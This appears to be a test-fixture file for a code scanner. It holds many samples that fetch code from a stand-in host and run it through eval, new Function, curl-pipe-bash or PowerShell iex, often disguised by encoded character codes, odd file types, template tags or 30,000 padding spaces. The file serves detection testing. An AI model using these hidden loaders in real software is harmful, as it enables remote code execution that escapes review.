/** Ways round a plain name: files by odd names, names by numbers, types instead of imports. Every host is under .example, and no text that is run does harm. */
type Files = Readonly<Record<string, string>>;
const one = (text: string): Files => ({ 'a.js': text });
const fetched = "fetch('https://a.example').then((r) => r.text())";
const runs = `${fetched}.then((t) => eval(t));`;
const started = (command: string, files: Files): Files => ({ 'package.json': JSON.stringify({ scripts: { start: command } }), ...files });
const codes = (text: string, distance: number): string => [...text].map((char) => char.charCodeAt(0) + distance).join(', ');

export const detourSamples: Readonly<Record<string, readonly [string, Files]>> = {
  'names out of numbers that are added up': ['runs-fetched-text a.js:3', one(`const _ = (...all) => all.map((code) => String.fromCharCode(code - 17)).join('');\nconst $ = require(_(${codes('https', 17)}));\n$[_(${codes('get', 17)})](_(${codes('https://a.example', 17)}), (r) => { let t = ''; r.on('data', (p) => { t += p; }).on('end', () => (async () => {})[_(${codes('constructor', 17)})](t)()); });`)],
  'names out of numbers under a key': ['runs-fetched-text a.js:2', one(`const at = (list, key) => list.map((code) => String.fromCharCode(code ^ key)).join('');\n${fetched}.then((t) => globalThis[at([${[...'eval'].map((char) => char.charCodeAt(0) ^ 9).join(', ')}], 9)](t));`)],
  'a name that a fold over numbers gives': ['runs-fetched-text a.js:1', one(`${fetched}.then((t) => globalThis[[${codes('eval', 2)}].reduce((all, code) => all + String.fromCharCode(code - 2), '')](t));`)],
  'parts that a bound method keeps': ['runs-fetched-text a.js:2', one("const { runInThisContext: show } = require('vm'); const parts = [];\nrequire('https').get('https://a.example', (r) => { r.on('data', parts.push.bind(parts)); r.on('end', () => show(Buffer.concat(parts).toString())); });")],
  'what is taken out of a list in part': ['runs-fetched-text a.js:2', one(`const waiting = []; ${fetched}.then((body) => waiting.push({ body }));\nsetInterval(() => { for (const { body } of waiting.splice(0)) new Function('require', \`return (async () => { \${body} })()\`)(require); }, 900);`)],
  'a client that a type names': ['runs-fetched-text a.service.ts:5', { 'a.service.ts': "import { HttpService } from '@nestjs/axios';\nimport { Worker } from 'worker_threads';\nclass A { constructor(private readonly http: HttpService) {}\n  async go() { const { data } = await firstValueFrom(this.http.get('https://a.example'));\n    new Worker(data.body, { eval: true }); } }" }],
  'a client that a property has by its type': ['runs-fetched-text a.ts:2', { 'a.ts': "class A { private client!: AxiosInstance;\n  async go() { const { data } = await this.client.get('/x'); eval(data); } }" }],
  'a command that depends on the system': ['starts-process a.js:3', one("const { execSync } = require('child_process'); const at = ['https://', 'a.example/', process.platform].join('');\nconst line = process.platform === 'win32' ? `powershell -c \"iwr ${at} | iex\"` : `curl -s ${at} | bash`;\nexecSync(line, { stdio: 'ignore' });")],
  'two files of a folder lib': ['runs-fetched-text lib/apply.js:1', { 'lib/http.js': "const axios = require('axios'); const { apply } = require('./apply');\naxios.interceptors.response.use((r) => { apply(r.data); return r; });", 'lib/apply.js': 'exports.apply = (body) => { eval(body.rules); };' }],
  'a package of the same project': ['runs-fetched-text packages/runner/src/run.ts:1', { 'packages/runner/package.json': '{ "name": "@own/runner" }', 'packages/runner/src/run.ts': 'export const run = (t: string) => new Function(t)();', 'apps/a/index.ts': `import { run } from '@own/runner/src/run';\n${fetched}.then(run);` }],
  'a module under a name of package.json': ['runs-fetched-text lib/run.js:1', { 'package.json': '{ "imports": { "#run": "./lib/run.js" } }', 'lib/run.js': 'exports.run = (t) => new Function(t)();', 'a.js': `const { run } = require('#run');\n${fetched}.then(run);` }],
  'a file without an ending that node starts': ['runs-fetched-text bin/server:1', started('node ./bin/server', { 'bin/server': runs })],
  'a file with another ending that node starts': ['runs-fetched-text var/boot.log:1', started('node var/boot.log', { 'var/boot.log': runs })],
  'a style sheet that node starts': ['runs-fetched-text a.css:1', started('nodemon a.css', { 'a.css': runs })],
  'a file with another ending that is required': ['runs-fetched-text var/boot.log:1', { 'a.js': "require('./var/boot.log');", 'var/boot.log': runs }],
  'a file without an ending that is required': ['runs-fetched-text lib/boot:1', { 'a.js': "const boot = require('./lib/boot');", 'lib/boot': runs }],
  'an attribute of a page': ['runs-fetched-text a.html:2', { 'a.html': `<body>\n<img src="a.png" onload="${fetched.replaceAll('"', "'")}.then(eval)">\n</body>` }],
  'an attribute of a page behind 30,000 spaces': ['runs-fetched-text a.html:1', { 'a.html': `<img onload="${' '.repeat(30_000)}${fetched.replaceAll('"', "'")}.then(eval)">` }],
  'an attribute of a page with its quotes written for it': ['runs-fetched-text a.html:1', { 'a.html': `<img onerror="fetch(&quot;https://a.example&quot;).then((r) =&gt; r.text()).then((t) =&gt; eval(t))">` }],
  'an address that is a program': ['runs-fetched-text a.html:1', { 'a.html': `<a href="javascript:${fetched}.then(eval)">Start</a>` }],
  'a template of ejs': ['runs-fetched-text views/a.ejs:2', { 'views/a.ejs': `<main>\n<% ${fetched}.then((t) => eval(t)) %>\n<%= title %></main>` }],
  'the head of an astro page': ['runs-fetched-text src/a.astro:2', { 'src/a.astro': `---\nconst text = await (await fetch('https://a.example')).text(); new Function('require', text)();\n---\n<h1>{text}</h1>` }],
  'a document with modules in it': ['runs-fetched-text a.mdx:3', { 'a.mdx': `import { Chart } from './chart';\n\nexport const shown = await ${fetched}.then((t) => eval(t));\n\n# Sales of the year\n\n<Chart year={2024} />` }],
};

export const quietDetourSamples: Readonly<Record<string, Files>> = {
  'a page that starts its own function': { 'a.html': '<body onload="start()"><button onclick="fetch(\'/api\')">x</button></body>' },
  'a style sheet that is imported': { 'a.js': "import './a.css'; eval(1);", 'a.css': '/* eval( */ .a { color: var(--b); }' },
  'a template of ejs that escapes': { 'a.ejs': '<% if (user) { %><h2><%= user.name %></h2><% } %>' },
  'a text that says how the tool is installed': one("const { execSync } = require('child_process'); const help = 'curl https://sh.rustup.rs | sh'; console.log(help); execSync('cargo build');"),
  'sums that are no names': one("const sums = [1, 2, 3].map((n) => n * 2); setTimeout(() => sums, 10 + 5);"),
};
